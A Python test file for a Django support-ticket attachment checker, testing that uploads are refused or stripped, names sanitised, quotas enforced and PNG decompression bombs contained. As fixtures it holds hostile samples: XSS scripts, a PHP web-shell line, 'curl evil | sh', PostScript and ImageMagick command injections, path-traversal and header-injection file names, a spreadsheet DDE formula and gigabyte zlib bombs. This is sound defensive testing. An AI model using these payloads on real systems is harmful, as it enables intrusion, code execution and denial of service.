"""Files that are made to do harm are refused, or do none: they go out as downloads with our type and name, and the disk is bounded."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import zipfile
import zlib
from collections import Counter
from pathlib import Path
from textwrap import dedent
from typing import Any

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test import Client
from django.utils.html import escape
from PIL import Image

from accounts.models import User
from nexusvpn.errors import DomainError, InvalidInput
from support.files.checking import MAX_FILES, CheckedFile
from support.models import Attachment, AttachmentContent, Ticket
from support.services.attachments import MEGABYTE, check_files, store_files
from tests.support.files.pictures import PDF, chunk, picture, png_of

SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
SHIFT = b"GIF89a/*\x00\x00\x00*/=1;alert(1)//"
GIF_SCRIPT = b"GIF89a/*    */=1;alert(document.domain)//;"
REPOSITORY = Path(__file__).resolve().parents[2]


def archive() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as packed:
        packed.writestr("evil.html", SCRIPT)
    return data.getvalue()


def with_comment(data: bytes, comment: bytes) -> bytes:
    """A JPEG with a comment segment after its first marker."""
    return data[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + data[2:]


def sent(name: str, data: bytes) -> list[CheckedFile]:
    return check_files([SimpleUploadedFile(name, data, "image/png")])


REFUSED = {
    "a script that begins as a GIF": ("a.gif", GIF_SCRIPT),
    "the same with control characters": ("a.js", SHIFT),
    "a GIF": ("a.png", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
    "an SVG with a script": ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "an SVG that says it is a picture": ("a.png", b'<?xml version="1.0"?><svg><script>alert(1)</script></svg>'),
    "a page": ("a.html", b"<!DOCTYPE html>" + SCRIPT),
    "a page in a text": ("a.txt", b"\xef\xbb\xbf \r\n" + SCRIPT),
    "a page in front of a PDF": ("a.pdf", SCRIPT + PDF),
    "a PDF with a page behind it": ("a.pdf", PDF + SCRIPT),
    "a PDF that is an archive too": ("a.pdf", PDF + archive()),
    "an archive": ("a.zip", archive()),
    "an archive called a text": ("a.txt", archive()),
    "a program": ("a.exe", b"MZ\x90\x00\x03"),
    "a shell script": ("a.sh", b"#!/bin/sh\ncurl evil | sh\n"),
    "a page in UTF-16": ("a.txt", SCRIPT.decode().encode("utf-16")),
    "a page in UTF-7 with its mark": ("a.txt", b"\x2b\x2f\x76\x38-\x1b"),
    "PostScript": ("a.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file"),
    "ImageMagick's own language": ("a.png", b"\x00push graphic-context\nfill 'url(https://evil/|id)'"),
    "a PNG's first bytes and nothing more": ("a.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
    "a JPEG's first bytes and nothing more": ("a.jpg", b"\xff\xd8\xff" + PHP),
    "a WebP's first bytes and nothing more": ("a.webp", b"RIFF\x00\x00\x00\x00WEBPVP8X" + SCRIPT),
    "a PNG of 900 million pixels": ("a.png", png_of(30_000, 30_000, bytes(30_001 * 100))),
}
# What is an image is taken, and nothing of what hid in it.
CLEANED = {
    "a PNG and an archive": ("a.png", picture("png") + archive()),
    "a PNG with a page behind it": ("a.html", picture("png") + SCRIPT),
    "a PNG with a script in a text": (
        "a.php",
        picture("png")[:33] + chunk(b"tEXt", b"Comment\0" + PHP) + picture("png")[33:],
    ),
    "a JPEG with PHP in a comment": ("a.php.jpg", with_comment(picture("jpeg"), PHP)),
    "a JPEG with a page behind it": ("a.jpg", picture("jpeg") + SCRIPT),
    "a WebP and an archive": ("a.webp", picture("webp") + archive()),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_by_its_name(what: str) -> None:
    name, data = REFUSED[what]
    with pytest.raises(InvalidInput) as caught:
        sent(name, data)
    assert caught.value.fields["files"][0].startswith(f"“{name}”: ")


@pytest.mark.parametrize("what", CLEANED)
def test_of_an_image_nothing_is_left_but_the_picture(what: str) -> None:
    (kept,) = sent(*CLEANED[what])
    for hidden in (SCRIPT, PHP, b"PK\x03\x04", b"PK\x05\x06", b"evil"):
        assert hidden not in kept.data
    assert not zipfile.is_zipfile(io.BytesIO(kept.data))
    assert Image.open(io.BytesIO(kept.data)).format == kept.kind.upper()
    assert kept.name.endswith({"png": ".png", "jpeg": ".jpg", "webp": ".webp"}[kept.kind])


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/cron.d/x.png",
        "..\\..\\windows\\x.png",
        "/etc/passwd",
        "photo\u202egnp.exe",
        "\u2066evil\u2069\u202e.js",
        'x"\r\nSet-Cookie: a=b\r\n.html',
        "a;filename*=UTF-8''evil.html",
        "con",
        "." * 200,
        "\u200b" * 50,
        "../" * 3000 + "x",
        "=cmd|' /C calc'!A0.png",
        "<img src=x onerror=alert(1)>.png",
    ],
)
@pytest.mark.django_db
def test_a_hostile_name_comes_out_as_a_plain_one(alice: User, ticket: Ticket, name: str) -> None:
    # Not as an upload, of which Django itself takes the path away: a mail's file comes like this.
    files = check_files([ContentFile(picture("png"), name)])
    store_files(message=ticket.messages.get(), sender=alice, files=files)
    file = Attachment.objects.get()
    assert re.fullmatch(r"[^/\\\x00-\x1f\"<>|:*?;%\u200b-\u200f\u202a-\u202e\u2066-\u2069]{1,96}\.png", file.name)
    browser = Client()
    browser.force_login(alice)
    answer = browser.get(f"/support/{ticket.pk}/attachments/{file.pk}")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
    assert answer.headers["Content-Type"] == "image/png"
    assert "\n" not in answer.headers["Content-Disposition"]
    page = browser.get(f"/support/{ticket.pk}").content.decode()
    assert escape(file.name) in page
    assert "<img src=x" not in page


def room_taken() -> int:
    with connection.cursor() as cursor:
        cursor.execute("SELECT pg_total_relation_size('support_attachmentcontent')")
        return int(cursor.fetchone()[0])


@pytest.mark.django_db
def test_ten_thousand_uploads_fill_a_persons_room_and_no_more(alice: User, ticket: Ticket, settings: Any) -> None:
    settings.ATTACHMENTS_MB_PER_PERSON = 1
    message, before = ticket.messages.get(), room_taken()
    uploads = [SimpleUploadedFile(f"{number}.log", b"0123456789abcdef" * 256) for number in range(MAX_FILES)]
    outcomes: Counter[str] = Counter()
    for _ in range(10_000 // MAX_FILES):
        try:
            with transaction.atomic():
                store_files(message=message, sender=alice, files=check_files(uploads))
            outcomes["taken"] += MAX_FILES
        except DomainError as error:
            outcomes[error.code] += MAX_FILES
    assert outcomes == {"taken": 255, "attachments_over_quota": 9745}
    assert AttachmentContent.objects.count() == 255
    assert room_taken() - before <= 2 * MEGABYTE


# What a child does with a file, and the most memory that it ever held, in megabytes.
CHILD = dedent("""
    import json, resource, sys, time
    from django.conf import settings
    from django.utils.translation import gettext
    # Refusals are said in a language.
    settings.configure(USE_I18N=False)
    gettext("")
    from support.files.checking import checked
    from support.files.refusals import Refused
    from PIL import Image
    Image.init()
    data = open(sys.argv[1], "rb").read()
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    begun = time.process_time()
    try:
        outcome = checked("a.png", data).kind
    except Refused as refusal:
        outcome = str(refusal)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps([outcome, (peak - before) / 1024, time.process_time() - begun]))
""")


def measured(tmp_path: Path, data: bytes) -> tuple[str, float, float]:
    """The outcome, the growth of a process's peak memory in megabytes, and seconds of a processor."""
    path = tmp_path / "file"
    path.write_bytes(data)
    command = [sys.executable, "-c", CHILD, str(path)]
    answer = subprocess.run(command, cwd=REPOSITORY, capture_output=True, text=True, timeout=120, check=True)
    outcome, megabytes, seconds = json.loads(answer.stdout)
    return outcome, megabytes, seconds


def deflated(megabytes: int) -> bytes:
    """Zeros, packed: one block over and over, with the sum that RFC 1950 wants of so many (each adds one, modulo 65521)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    total = megabytes * 1_000_000 % 65_521 << 16 | 1
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + total.to_bytes(4, "big")


def with_data(png: bytes, data: bytes) -> bytes:
    return png.replace(chunk(b"IDAT", zlib.compress(b"", 9)), chunk(b"IDAT", data))


class TestBombs:
    """Of a few kilobytes that would be gigabytes."""

    def test_a_png_of_30000_by_30000(self, tmp_path: Path) -> None:
        bomb = with_data(png_of(30_000, 30_000, b""), deflated(901))
        assert len(bomb) < MEGABYTE
        outcome, megabytes, seconds = measured(tmp_path, bomb)
        assert "million pixels" in outcome
        assert megabytes < 8
        assert seconds < 1

    def test_a_png_whose_data_go_on_for_gigabytes(self, tmp_path: Path) -> None:
        bomb = with_data(png_of(100, 100, b""), deflated(2000))
        assert len(bomb) < 3 * MEGABYTE
        _, megabytes, seconds = measured(tmp_path, bomb)
        assert megabytes < 32
        assert seconds < 5

    @pytest.mark.parametrize("name", [b"zTXt", b"iCCP"])
    def test_a_png_with_a_text_or_profile_of_a_gigabyte(self, tmp_path: Path, name: bytes) -> None:
        bomb = png_of(8, 8, bytes(72), chunk(name, b"Comment\0\0" + deflated(1000)))
        _, megabytes, seconds = measured(tmp_path, bomb)
        assert megabytes < 64
        assert seconds < 5

    def test_the_largest_image_that_is_taken_stays_within_its_bounds(self, tmp_path: Path) -> None:
        data = io.BytesIO()
        Image.effect_noise((60, 40), 90).convert("RGB").resize((6000, 4000)).save(data, "JPEG", quality=60)
        outcome, megabytes, _ = measured(tmp_path, data.getvalue())
        assert outcome == "jpeg"
        assert megabytes < 400
